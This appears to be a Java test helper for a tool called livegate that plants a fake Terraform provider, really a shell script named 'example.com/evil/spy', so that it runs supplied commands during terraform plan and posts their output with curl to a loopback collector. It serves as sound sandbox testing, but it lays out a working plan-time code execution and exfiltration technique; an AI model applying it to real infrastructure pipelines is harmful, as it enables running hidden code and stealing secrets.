package io.livegate.process;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Code from a merged change that runs at plan time, as an attacker would write it: a "provider"
 * served from a filesystem mirror ({@code provider_installation { filesystem_mirror }} in the CLI
 * config that {@code TF_CLI_CONFIG_FILE} names) which is really a shell script. terraform starts it
 * during plan; it makes its attempts, writes what each printed and how it ended to a temporary
 * file, and exits, which fails the plan. The log reaches the test over the loopback network (a
 * {@link Collector} of the test's; the network is open in every sandbox), and, where the spy may
 * write there, in {@code spy.log} in the unit: a plan in a throwaway copy cannot write into the
 * repository it was copied from, which is where the test would look.
 */
public final class PlanTimeSpy {
  static final String SOURCE = "example.com/evil/spy";

  private final Optional<Path> cliConfig;
  private final Path log;
  private final Collector collector;

  private PlanTimeSpy(Optional<Path> cliConfig, Path log, Collector collector) {
    this.cliConfig = cliConfig;
    this.log = log;
    this.collector = collector;
  }

  /** Receives what the spy posts to it, on the loopback interface; lives as long as the JVM. */
  private static final class Collector {
    private final StringBuilder received = new StringBuilder();
    private final int port;

    Collector() throws IOException {
      HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
      server.createContext(
          "/",
          exchange -> {
            byte[] body = exchange.getRequestBody().readAllBytes();
            synchronized (received) {
              received.append(new String(body, StandardCharsets.UTF_8));
            }
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
          });
      server.start();
      port = server.getAddress().getPort();
    }

    String url() {
      return "http://127.0.0.1:" + port + "/";
    }

    String received() {
      synchronized (received) {
        return received.toString();
      }
    }
  }

  /**
   * Installs the spy in a mirror under {@code dir} and makes {@code unit} require it.
   *
   * @param attempts each attempt's name and the shell command it runs
   */
  public static PlanTimeSpy install(Path dir, Path unit, Map<String, String> attempts)
      throws IOException {
    Collector collector = new Collector();
    Path log = writeProvider(dir.resolve("mirror"), unit, attempts, collector);
    Path cliConfig = dir.resolve("spy.tfrc");
    Files.writeString(
        cliConfig,
        "provider_installation {\n  filesystem_mirror {\n    path = \""
            + dir.resolve("mirror")
            + "\"\n    include = [\"example.com/*/*\"]\n  }\n"
            + "  direct {\n    exclude = [\"example.com/*/*\"]\n  }\n}\n");
    return new PlanTimeSpy(Optional.of(cliConfig), log, collector);
  }

  /**
   * Installs the spy in {@code unit} itself, in {@code terraform.d/plugins}: the mirror terraform
   * looks in from its working directory (the unit's, as livegate runs it) without any CLI config,
   * so a merged change can ship its own provider there and needs nothing of livegate's setup.
   */
  public static PlanTimeSpy installInUnit(Path unit, Map<String, String> attempts)
      throws IOException {
    Collector collector = new Collector();
    return new PlanTimeSpy(
        Optional.empty(),
        writeProvider(unit.resolve("terraform.d/plugins"), unit, attempts, collector),
        collector);
  }

  /** Writes the spy into {@code mirror}, makes {@code unit} require it, and answers its log. */
  private static Path writeProvider(
      Path mirror, Path unit, Map<String, String> attempts, Collector collector)
      throws IOException {
    Path log = unit.resolve("spy.log");
    // the script keeps its own stdout open to the end: terraform stops a plugin whose stdout closes
    StringBuilder script = new StringBuilder("#!/bin/sh\nlog=$(mktemp)\n{\n");
    attempts.forEach(
        (name, command) ->
            script
                .append("echo '== ")
                .append(name.replace("'", "'\\''"))
                .append("'\n(")
                .append(command)
                .append(")\necho \"-> exit $?\"\n"));
    script
        .append("} >>\"$log\" 2>&1\n")
        .append("curl -fsS --data-binary @\"$log\" ")
        .append(collector.url())
        .append(" >/dev/null 2>&1\n")
        .append("cat \"$log\" >>'")
        .append(log)
        .append("' 2>/dev/null\nexit 1\n");
    Path binary = mirror.resolve(SOURCE + "/1.0.0/linux_amd64/terraform-provider-spy_v1.0.0");
    Files.createDirectories(binary.getParent());
    Files.writeString(binary, script);
    Files.setPosixFilePermissions(binary, PosixFilePermissions.fromString("rwx------"));
    Files.writeString(
        unit.resolve("spy.tf"),
        "terraform {\n  required_providers {\n    spy = { source = \""
            + SOURCE
            + "\" }\n  }\n}\nprovider \"spy\" {}\n");
    return log;
  }

  /** What the runner's environment needs so that terraform finds the spy. */
  public Map<String, String> environment() {
    Map<String, String> environment = new LinkedHashMap<>();
    cliConfig.ifPresent(config -> environment.put("TF_CLI_CONFIG_FILE", config.toString()));
    return environment;
  }

  /**
   * What the spy saw and did, as it wrote it (bytes that are no UTF-8, such as a key it read, as
   * replacement characters); empty when it never ran.
   */
  public String log() throws IOException {
    String received = collector.received();
    if (!received.isEmpty()) {
      return received;
    }
    return Files.exists(log) ? new String(Files.readAllBytes(log), StandardCharsets.UTF_8) : "";
  }

  /** The lines of {@link #log}. */
  public List<String> lines() throws IOException {
    return log().lines().toList();
  }

  /** Each attempt the spy made, by name, with the exit code it ended with. */
  public Map<String, Integer> exits() throws IOException {
    Map<String, Integer> exits = new LinkedHashMap<>();
    String attempt = null;
    Matcher exit = Pattern.compile("-> exit (\\d+)").matcher("");
    for (String line : lines()) {
      if (line.startsWith("== ")) {
        attempt = line.substring(3);
      } else if (attempt != null && exit.reset(line).matches()) {
        exits.put(attempt, Integer.parseInt(exit.group(1)));
        attempt = null;
      }
    }
    return exits;
  }
}
